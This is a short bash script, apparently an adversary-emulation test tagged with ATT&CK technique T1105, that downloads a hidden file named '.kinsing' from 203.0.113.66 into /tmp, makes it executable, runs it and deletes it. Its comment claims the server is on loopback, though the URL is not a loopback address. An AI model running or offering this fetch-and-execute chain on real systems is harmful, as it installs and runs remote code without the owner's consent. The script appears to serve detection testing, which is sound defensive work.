#!/bin/bash
# technique: T1105 Ingress Tool Transfer
# tactic: command-and-control
# user: www-data
# needs: wget
# does: downloads a program below /tmp, makes it executable and runs it
# harmless: the server that answers is a script on the loopback device, and what it sends only runs id and uname

cd /tmp || exit 1
wget -q -O .kinsing http://203.0.113.66/kinsing
chmod +x .kinsing
./.kinsing
rm -f .kinsing
